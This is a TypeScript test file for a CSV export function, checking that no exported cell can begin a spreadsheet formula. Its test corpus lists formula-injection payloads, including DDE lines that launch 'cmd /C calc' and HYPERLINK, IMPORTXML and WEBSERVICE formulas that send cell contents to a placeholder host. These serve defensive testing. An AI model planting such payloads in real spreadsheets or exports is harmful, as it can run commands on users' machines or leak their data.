import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toCsv } from '@/lib/core/words/csv';

const read = (text: string, delimiter = ','): string[][] =>
  parse(text, { bom: true, delimiter, relax_quotes: true, relax_column_count: true });

const one = (text: string): string => read(toCsv(['a'], [[text]]))[1]?.[0] ?? '';

/** What spreadsheets are known to run: OWASP's list, DDE, full-width twins, what is passed over before a formula. */
const CORPUS = [
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1,2)',
  '\u2212cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=cmd|"/C calc"!A0',
  '  =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u2068=1+1',
  '"=1+1',
  "'=1+1",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "=cmd|' /C calc'!A0",
  'DDE ("cmd";"/C calc";"__DdeLink_60_870516294")',
  '=HYPERLINK("http://example.invalid?x="&A1,"open")',
  '=IMPORTXML(CONCAT("http://example.invalid?v=",A1),"//a")',
  '=WEBSERVICE("http://example.invalid")',
  'harmless;=1+1',
  'harmless; =1+1',
  'harmless,"=1+1',
  'harmless";=1+1',
  'harmless\n=1+1',
  'harmless\t=1+1',
  'harmless\r=1+1',
  '-;-;=1',
];

const STARTS_FORMULA = /^[=+\-@\u2212\uff1d\uff0b\uff0d\uff20\t\r\n]/u;
const PASSED = /^[\s\p{Cf}"]+/u;

/** No cell begins a formula, whichever separator the reader splits at. */
function expectHarmless(text: string): void {
  const csv = toCsv(['Name', 'n'], [[text, -1.5]]);
  for (const separator of [',', ';', '\t', '|']) {
    const cells = csv
      .replace('\ufeff', '')
      .split(/\r\n|\r|\n/)
      .flatMap((line) => (separator === ',' ? (read(line)[0] ?? []) : line.split(separator)));
    for (const cell of cells) {
      if (cell === '-1.5') continue;
      expect(cell.replace(PASSED, '')).not.toMatch(STARTS_FORMULA);
    }
  }
}

describe('a table for spreadsheets', () => {
  it.each(CORPUS)('makes %j harmless at every separator', (text) => {
    expectHarmless(text);
  });

  it('makes any text harmless', () => {
    const piece = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      ';',
      ',',
      '|',
      '"',
      "'",
      '\t',
      '\n',
      ' ',
      'a',
    );
    fc.assert(fc.property(fc.string({ unit: piece, maxLength: 12 }), expectHarmless));
  });

  it('leaves a name without a formula as its owners wrote it', () => {
    for (const name of [
      'Redesign 1',
      'A, "quoted" one',
      'Prix 10 € – court',
      'שלום',
      '👩‍🔬 lab',
      'a=b',
      'x-y',
    ])
      expect(one(name)).toBe(name);
  });

  it('gives numbers as numbers: a dot, no separators, no exponent, no quotes', () => {
    const csv = toCsv(['n'], [[1234567.25], [-0.0412], [1e-9], [1e21], [Number.NaN], [null]]);
    expect(csv.replace('\ufeff', '').split('\r\n')).toEqual([
      '"n"',
      '1234567.25',
      '-0.0412',
      '0.000000001',
      '1000000000000000000000',
      '',
      '',
      '',
    ]);
  });

  it('reads back what was written, to the last digit', () => {
    fc.assert(
      fc.property(fc.double({ min: -1e6, max: 1e6, noNaN: true }), (n) => {
        const cell = read(toCsv(['n', 'm'], [[n, 0]]))[1]?.[0];
        expect(Math.abs(Number(cell) - n)).toBeLessThan(1e-18 + Math.abs(n) * 1e-14);
      }),
    );
  });
});
